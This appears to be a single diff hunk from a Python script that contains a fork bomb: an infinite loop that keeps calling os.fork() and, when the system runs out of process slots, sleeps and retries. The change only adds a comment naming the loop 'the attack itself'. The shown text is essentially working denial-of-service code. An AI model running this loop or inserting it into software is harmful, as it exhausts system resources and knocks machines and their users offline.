@@ -9,4 +9,4 @@ while True:
     try:
         os.fork()
     except OSError:
-        time.sleep(0.01)
+        time.sleep(0.01)  # the attack itself: it waits for room and goes on
